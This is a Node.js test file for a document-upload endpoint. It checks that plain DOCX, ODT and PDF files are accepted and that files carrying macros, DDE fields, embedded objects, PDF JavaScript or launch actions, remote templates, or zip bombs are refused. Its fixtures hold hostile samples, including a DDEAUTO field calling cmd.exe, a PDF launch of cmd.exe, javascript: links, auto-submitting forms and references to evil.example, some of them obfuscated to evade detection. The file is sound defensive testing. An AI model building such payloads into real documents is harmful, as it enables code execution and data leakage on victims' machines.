// Documents in which something runs, or is fetched, when they are opened.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { logInAs } from '../support/accounts.mjs';
import { attachMockup, createRequest } from '../support/requests.mjs';
import { startServer } from '../support/server.mjs';
import { zip } from '../support/zip.mjs';

const ODT = 'application/vnd.oasis.opendocument.text';

let server;
let client;
let id;
before(async () => {
  server = await startServer();
  ({ client } = await logInAs(server, {}));
  ({ id } = (await createRequest(client)).body);
});
after(() => server.stop());

const attach = (bytes) => attachMockup(client, id, bytes, 'document');

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const relation = (kind, target, mode = '') =>
  `<Relationship Id="r1" Type="${RELATION}/${kind}" Target="${target}"${mode}/>`;
const EXTERNAL = ' TargetMode="External"';
const MAIN = `<Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>`;

/** A DOCX whose types and relationships are these. */
const word = ({ types = '', rels = '', others = [], encoding = 'UTF-8' }) =>
  zip([
    {
      name: '[Content_Types].xml',
      content: `<?xml version="1.0" encoding="${encoding}"?><Types>${types}${MAIN}</Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<Relationships>${relation('officeDocument', 'word/document.xml')}</Relationships>`,
    },
    { name: 'word/document.xml', content: '<w:document/>' },
    { name: 'word/_rels/settings.xml.rels', content: `<Relationships>${rels}</Relationships>` },
    ...others,
  ]);
const openDocument = (content, others = []) =>
  zip([
    { name: 'mimetype', content: ODT, stored: true },
    { name: 'content.xml', content },
    ...others,
  ]);

/** A DOCX with this in its text. */
const text = (inside, name = 'word/document.xml') =>
  word({
    others: [{ name, content: `<?xml version="1.0" encoding="UTF-8"?><w:p>${inside}</w:p>` }],
  });
const instruction = (...pieces) =>
  `<w:fldChar w:fldCharType="begin"/>${pieces
    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
    .join('')}<w:fldChar w:fldCharType="separate"/>`;

/** A PDF of these objects; `packed` ones lie in an object stream. */
function pdf(
  objects,
  { packed = [], dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode' } = {},
) {
  const plain = objects.map((text, i) => `${i + 1} 0 obj\n${text}\nendobj\n`).join('');
  const data = deflateSync(Buffer.from(`9 0 ${packed.join(' ')}`));
  const stream = packed.length
    ? [
        Buffer.from(`8 0 obj\n<<${dictionary}/Length ${data.length}>>stream\r\n`),
        data,
        Buffer.from('\nendstream\nendobj\n'),
      ]
    : [];
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${plain}`),
    ...stream,
    Buffer.from('trailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
}

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
/** A workbook as charts hold one. */
const workbook = (type = SHEET, others = []) =>
  zip([
    {
      name: '[Content_Types].xml',
      content: `<Types><Override PartName="/xl/workbook.xml" ContentType="${type}"/></Types>`,
    },
    {
      name: '_rels/.rels',
      content: `<Relationships>${relation('officeDocument', '/xl/workbook.xml')}</Relationships>`,
    },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    ...others,
  ]);
const MACRO_SHEET = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
/** A DOCX with this file in it, called as a harmless one is. */
const holding = (content) =>
  word({ others: [{ name: 'word/embeddings/Classeur.xlsx', content, stored: true }] });
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const image = Buffer.concat([Buffer.from('binary '), Buffer.from([0, 255]), Buffer.from('/JS (')]);
const withImage = Buffer.concat([
  Buffer.from('%PDF-1.7\n1 0 obj\n<</Length 14/Filter/DCTDecode>>stream\n'),
  image,
  Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
]);

for (const [what, bytes] of Object.entries({
  a_chart_with_its_workbook: word({
    types:
      '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
    rels: relation('package', '../embeddings/Classeur.xlsx'),
    others: [{ name: 'word/embeddings/Classeur.xlsx', content: workbook(), stored: true }],
  }),
  links_to_the_web_a_mailbox_and_a_file_beside: word({
    rels: ['http://a.example/?x=1&amp;y=file:', 'MAILTO:a@b.example', 'annexe.docx', '../a/b.pdf']
      .map((target) => relation('hyperlink', target, EXTERNAL))
      .join(''),
  }),
  an_odt_with_pictures_and_links: openDocument(
    `<text:a xlink:href="https://eure.example"/><text:a xlink:href="../annexe.odt"/>` +
      '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>' +
      '<chart:chart xlink:href=".."/><svg:image xlink:href="data:image/png;base64,AA=="/>' +
      '<meta:template xlink:href="file:///usr/share/a.ott"/><v:shape href="https://a.example"/>',
  ),
  a_link_to_a_site: word({ rels: relation('hyperlink', 'https://example.org', EXTERNAL) }),
  a_template_inside: word({ rels: relation('attachedTemplate', 'glossary/document.xml') }),
  an_odt_with_a_form: openDocument('<office:text><form:text/></office:text>'),
  a_pdf_that_speaks_of_scripts: pdf([
    '<</Title(/JavaScript /JS \\(endobj/Launch)>>',
    '% /JS\n<<>>',
  ]),
  a_pdf_with_packed_objects: pdf(['<</Type/Catalog>>'], { packed: ['<</Title(a)/Next 2 0 R>>'] }),
  a_pdf_with_an_image: withImage,
  fields_that_call_nobody: text(
    instruction(' HYPERLINK "https://eure.example/dde/ddeauto" ', ' REF DDE ') +
      instruction(' HYPERLINK "link" ', ' REF import ') +
      '<w:t>DDEAUTO</w:t><!-- DDEAUTO <script> --><w:fldSimple w:instr="PAGE"/>',
  ),
  an_image_that_is_no_xml: word({
    others: [{ name: 'word/media/image1.png', content: Buffer.from([0x89, 0, 0x3c, 0x21, 0xff]) }],
  }),
  an_odt_without_its_scripts: openDocument('<office:scripts/><text:p>:script &lt;script </text:p>'),
  a_pdf_with_a_link_to_a_site: pdf(['<</S/URI/URI(https://example.org/EmbeddedFiles/GoToR)>>']),
  a_pdf_with_links: pdf([
    '<</Type/Catalog/URI<</Base(https://eure.example/)>>/Threads[3 0 R]>>',
    '<</S/URI/URI(mailto:a@b.example)>><</S/URI/URI(HTTPS\\072//a.example)>>',
    '<</Type /Thread/F 4 0 R>><</S/URI/URI<687474703A2F2F61>>><</S/URI/URI(annexe.html)>>',
  ]),
  a_pdf_behind_blanks: Buffer.concat([Buffer.from('\ufeff\r\n'), pdf(['<<>>'])]),
  a_pdf_that_opens_at_a_page: pdf(['<</Type/Catalog/OpenAction[3 0 R/Fit]>>']),
})) {
  test(`takes_${what}`, async () => {
    (await attach(bytes)).expect(201);
    const [{ id: file }] = (await client.get(`/v1/requests/${id}/attachments`)).body.items;
    (await client.delete(`/v1/requests/${id}/attachments/${file}`)).expect(204);
  });
}

const MACRO = /contient une macro/;
const OBJECT = /objet incorporé/;
const TEMPLATE = /modèle qui est ailleurs/;
const ELSEWHERE = /contenu qui est ailleurs/;
const FIELD = /champ DDE/;
const FILES = /contient d’autres fichiers/;
const FORM = /envoie ou importe des données/;
const JUMP = /ouvre un autre fichier/;
const MEDIA = /une animation/;
const JAVASCRIPT = /contient du JavaScript/;
const LINK = /ne mène ni à une page web ni à une adresse électronique/;
const PASSWORD = /retirez le mot de passe/;
const UNREADABLE = /abîmé ou trop compressé/;

for (const [what, [bytes, reason]] of Object.entries({
  a_macro_by_name: [word({ others: [{ name: 'word/vbaProject.bin', content: 'x' }] }), MACRO],
  a_macro_by_type: [
    word({
      types:
        '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
    MACRO,
  ],
  a_macro_by_the_type_of_the_document: [
    word({
      types: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
    MACRO,
  ],
  a_macro_behind_a_reference: [
    word({ types: '<Override ContentType="application/vnd.ms-office.vba&#80;ro&#x6A;ect"/>' }),
    MACRO,
  ],
  a_macro_by_relation: [
    word({
      rels: relation('vbaProject', 'a.dat').replace(
        RELATION,
        'http://schemas.microsoft.com/office/2006/relationships',
      ),
    }),
    MACRO,
  ],
  a_control: [word({ rels: relation('control', 'activeX/a.xml') }), MACRO],
  an_ole_object: [word({ rels: relation('oleObject', 'embeddings/a.bin') }), OBJECT],
  an_ole_object_by_type: [
    word({
      types: `<Default Extension="x" ContentType="${WORD.replace('.wordprocessingml', '.oleObject')}"/>`,
    }),
    OBJECT,
  ],
  a_template_of_elsewhere: [
    word({ rels: relation('attachedTemplate', 'https://evil.example/a.dotm', EXTERNAL) }),
    TEMPLATE,
  ],
  an_image_of_elsewhere: [
    word({ rels: relation('image', 'https://evil.example/a.png', EXTERNAL) }),
    ELSEWHERE,
  ],
  an_image_that_calls_itself_a_link: [
    word({
      rels: relation('image', `x/relationships/hyperlink`, " TargetMode = 'Ex&#116;ernal'"),
    }),
    ELSEWHERE,
  ],
  a_document_of_another_kind_inside: [word({ rels: relation('aFChunk', 'a.rtf') }), OBJECT],
  a_dde_field: [text(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), FIELD],
  a_dde_field_in_pieces: [text(instruction('\n D', 'de', ' excel')), FIELD],
  a_dde_field_in_other_letters: [text(instruction('&#x0044;&#68;EAU', '&#x54;O x')), FIELD],
  a_field_named_by_the_codes_of_its_characters: [
    text(
      instruction(
        ' ',
        '</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 68 69 ',
      ),
    ),
    FIELD,
  ],
  a_picture_by_field: [
    text(instruction(' INCLUDEPICTURE "http://eure.example/x.png" ')),
    ELSEWHERE,
  ],
  a_text_by_field: [text(instruction(' includetext x.docx ')), ELSEWHERE],
  a_link_by_field: [text("<w:fldSimple w:instr='LINK Excel.Sheet a'/>"), ELSEWHERE],
  a_button_that_runs_a_macro: [text(instruction(' MACROBUTTON run Ici ')), MACRO],
  a_simple_dde_field: [text("<w:fldSimple w:instr='DDE excel a'/>"), FIELD],
  a_dde_field_in_a_footer: [text(instruction('DDEAUTO x'), 'word/pied.bin'), FIELD],
  a_dde_field_in_a_section: [text(`<![CDATA[${instruction('DDEAUTO x')}]]>`), UNREADABLE],
  a_part_in_utf_16: [
    word({ others: [{ name: 'word/a.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }] }),
    UNREADABLE,
  ],
  a_part_in_utf_16_without_mark: [
    word({ others: [{ name: 'word/a.xml', content: Buffer.from('<a/>', 'utf16le').swap16() }] }),
    UNREADABLE,
  ],
  a_part_in_another_encoding: [
    word({
      others: [{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }],
    }),
    UNREADABLE,
  ],
  a_script_inside_of_odf: [openDocument('<x><o:script script:language="JS"/></x>'), MACRO],
  a_dde_link_of_odf: [openDocument('<x><office:dde-source office:name="a"/></x>'), FIELD],
  a_section_of_elsewhere_of_odf: [openDocument('<x><text:section-source/></x>'), ELSEWHERE],
  a_frame_of_odf: [openDocument('<x><draw:floating-frame\nxlink:href="a"/></x>'), ELSEWHERE],
  an_applet_of_odf: [openDocument('<x><draw:applet/></x>'), OBJECT],
  a_workbook_with_macros_inside: [holding(workbook(MACRO_SHEET)), MACRO],
  a_workbook_inside_of_a_workbook_with_a_module: [
    holding(
      workbook(SHEET, [
        {
          name: 'xl/a.bin',
          content: workbook(SHEET, [{ name: 'xl/vbaProject.bin', content: 'x' }]),
        },
      ]),
    ),
    MACRO,
  ],
  workbooks_in_workbooks: [
    holding(
      [1, 2].reduce(
        (inside) => workbook(SHEET, [{ name: 'xl/a.bin', content: inside, stored: true }]),
        workbook(),
      ),
    ),
    UNREADABLE,
  ],
  a_zip_that_is_no_document_inside: [holding(zip([{ name: 'a.exe', content: 'MZ' }])), OBJECT],
  an_ole_file_of_another_name: [holding(Buffer.concat([OLE, Buffer.alloc(512)])), OBJECT],
  an_ole_file_in_an_odt: [
    openDocument('<x/>', [{ name: 'Object 1', content: Buffer.concat([OLE, Buffer.alloc(9)]) }]),
    OBJECT,
  ],
  a_workbook_with_macros_in_an_odt: [
    openDocument('<x/>', [{ name: 'Object 1', content: workbook(MACRO_SHEET) }]),
    MACRO,
  ],
  a_basic_library_of_an_object_of_odf: [
    openDocument('<x/>', [{ name: 'Object 1/Basic/script-lc.xml', content: 'x' }]),
    MACRO,
  ],
  a_picture_of_odf_by_its_address: [
    openDocument('<draw:image xlink:href="https://evil.example/a.png"/>'),
    ELSEWHERE,
  ],
  a_picture_of_odf_by_another_prefix: [
    openDocument("<d:image l:title='>' l:href\n=\n' &#x0068;ttp://evil.example/a.png'/>"),
    ELSEWHERE,
  ],
  a_picture_of_odf_on_another_computer: [
    openDocument('<draw:image xlink:href="//evil.example/a.png"/>'),
    ELSEWHERE,
  ],
  an_object_of_odf_from_a_file: [
    openDocument('<draw:object xlink:href="file:///C:/a.ods"/>'),
    ELSEWHERE,
  ],
  an_object_of_odf_beside_the_document: [
    openDocument('<draw:object xlink:href="../a.ods"/>'),
    ELSEWHERE,
  ],
  a_document_that_loads_another_one: [
    openDocument('<meta:auto-reload xlink:href="https://evil.example"/>'),
    ELSEWHERE,
  ],
  a_link_of_odf_to_a_file: [openDocument('<text:a xlink:href="file://evil/a"/>'), LINK],
  a_link_of_odf_that_runs: [openDocument('<text:a xlink:href="java&#10;script:alert(1)"/>'), LINK],
  a_link_to_another_computer: [
    word({ rels: relation('hyperlink', '\\\\evil\\a', EXTERNAL) }),
    LINK,
  ],
  a_link_that_calls_a_program: [
    word({
      rels: relation('hyperlink', 'ms-word:ofe|u|https://a', EXTERNAL).replace(
        'Id="r1"',
        `Id=" target='https://a'"`,
      ),
    }),
    LINK,
  ],
  a_document_type_in_a_part: [word({ types: '<!DOCTYPE x [<!ENTITY v "vba">]>' }), UNREADABLE],
  another_encoding_of_a_part: [word({ encoding: 'UTF-7' }), UNREADABLE],
  a_bomb: [word({ types: ' '.repeat(2 ** 21) }), UNREADABLE],
  a_bomb_of_a_document: [openDocument(' '.repeat(129 * 2 ** 20)), UNREADABLE],
  a_basic_library_of_odf: [
    openDocument('<x/>', [{ name: 'Basic/Standard/Module1.xml', content: 'x' }]),
    MACRO,
  ],
  a_script_of_odf: [openDocument('<x/>', [{ name: 'Scripts/python/a.py', content: 'x' }]), MACRO],
  a_listener_of_odf: [
    openDocument(
      `${' '.repeat(16 * 1024 - 9)}<script:event-listener script:language="ooo:script"/>`,
    ),
    MACRO,
  ],
  an_ole_object_of_odf: [
    openDocument('<x/>', [
      {
        name: 'META-INF/manifest.xml',
        content: '<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>',
      },
    ]),
    OBJECT,
  ],
  javascript: [pdf(['<</Type/Catalog/OpenAction 2 0 R>>', SCRIPT]), JAVASCRIPT],
  a_form_whose_scripts_are_xml: [pdf(['<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>']), JAVASCRIPT],
  javascript_in_other_letters: [pdf(['<</S/Java#53cript/#4aS(x)>>']), JAVASCRIPT],
  javascript_in_an_object_stream: [pdf(['<</Type/Catalog>>'], { packed: [SCRIPT] }), JAVASCRIPT],
  javascript_in_an_object_stream_without_its_type: [
    pdf(['<<>>'], { packed: [SCRIPT], dictionary: '/N 1/First 4/Filter[/Fl#61teDecode]' }),
    JAVASCRIPT,
  ],
  javascript_hidden_in_another_stream: [
    Buffer.concat([
      withImage,
      Buffer.from(`\n7 0 obj<<>>stream\n9 0 obj${SCRIPT}endobj\nendstream endobj`),
    ]),
    JAVASCRIPT,
  ],
  files_inside: [pdf(['<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>']), FILES],
  a_file_without_its_type: [pdf(['<</F(a.exe)/EF<</F 3 0 R>>>>']), FILES],
  a_file_in_an_object_stream: [
    pdf(['<<>>'], { packed: ['<</Type/Filespec/E#46<</F 3 0 R>>>>'] }),
    FILES,
  ],
  a_form_that_is_sent_on_its_own: [
    pdf(['<</Type/Page/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>>>']),
    FORM,
  ],
  a_form_that_imports: [pdf(['<</S/ImportData/F(a.fdf)>>']), FORM],
  a_jump_into_a_thread: [pdf(['<</S/Thread/F(a.pdf)/D 0>>']), JUMP],
  a_jump_into_a_thread_by_its_number: [
    pdf(['<<>>'], { packed: ['<</S 5 0 R>>/Type /Th#72ead'] }),
    JUMP,
  ],
  a_link_to_a_file: [pdf(['<</S/URI/URI(file:///c:/a)>>']), LINK],
  a_link_that_runs: [pdf(['<</S/URI/URI( java\\\nscr\\151pt:alert\\(1\\))>>']), LINK],
  a_link_in_hexadecimal: [pdf(['<</S/URI/URI < 66 696C 653A2F >>>']), LINK],
  a_link_in_an_object_stream: [pdf(['<<>>'], { packed: ['<</URI(javascript:x)>>'] }), LINK],
  a_link_in_utf_16: [pdf(['<</S/URI/URI(\\376\\377\\000f\\000:)>>']), LINK],
  a_link_in_another_object: [pdf(['<</S/URI/URI 3 0 R>>', '(https://a.example)']), LINK],
  a_base_of_links_that_is_a_file: [pdf(['<</Type/Catalog/URI<</Base(file:///)>>>>']), LINK],
  a_data_link: [pdf(['<</S/URI/URI(data:text/html,x)>>']), LINK],
  a_password: [
    Buffer.concat([
      pdf([]),
      Buffer.from('trailer<</Root 1 0 R/Encrypt 2 0 R>>\nstartxref\n0\n%%EOF\n'),
    ]),
    PASSWORD,
  ],
  a_password_behind_objects_that_nobody_reads: [
    pdf(['<<>>'], { packed: ['<<>>'], dictionary: '/Type/ObjStm/Filter/FlateDecode/DecodeParms 1' })
      .toString('latin1')
      .replace('trailer', '7 0 obj<</Type/XRef/Encrypt 2 0 R>>stream\nendstream endobj\ntrailer'),
    PASSWORD,
  ].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  a_jump_to_another_file: [pdf(['<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>']), JUMP],
  a_jump_to_a_file_inside: [pdf(['<<>>'], { packed: ['<</S/GoToE/T 3 0 R>>'] }), JUMP],
  rich_media: [pdf(['<</Subtype/RichMedia>>']), MEDIA],
  a_film: [pdf(['<</S/Movie>>']), MEDIA],
  a_model_in_three_dimensions: [pdf(['<</Subtype/3D>>']), MEDIA],
  a_sound: [pdf(['<</S/#53ound>>']), MEDIA],
  a_program_that_is_launched: [pdf(['<</S/Launch/F(cmd.exe)>>']), /lance un programme/],
  objects_packed_twice: [
    pdf(['<<>>'], {
      packed: [SCRIPT],
      dictionary: '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]',
    }),
    UNREADABLE,
  ],
  objects_whose_filter_is_elsewhere: [
    pdf(['<<>>'], { packed: [SCRIPT], dictionary: '/Type/ObjStm/Filter 7 0 R' }),
    UNREADABLE,
  ],
  objects_that_are_a_bomb: [pdf(['<<>>'], { packed: [' '.repeat(33 * 2 ** 20)] }), UNREADABLE],
  objects_without_end: [Buffer.from(`%PDF-1.7\n${'1 0 obj('.repeat(20_000)}`), UNREADABLE],
})) {
  test(`refuses_${what}`, async () => {
    const { body } = (await attach(bytes)).expect(415);
    assert.match(body.detail, reason);
  });
}
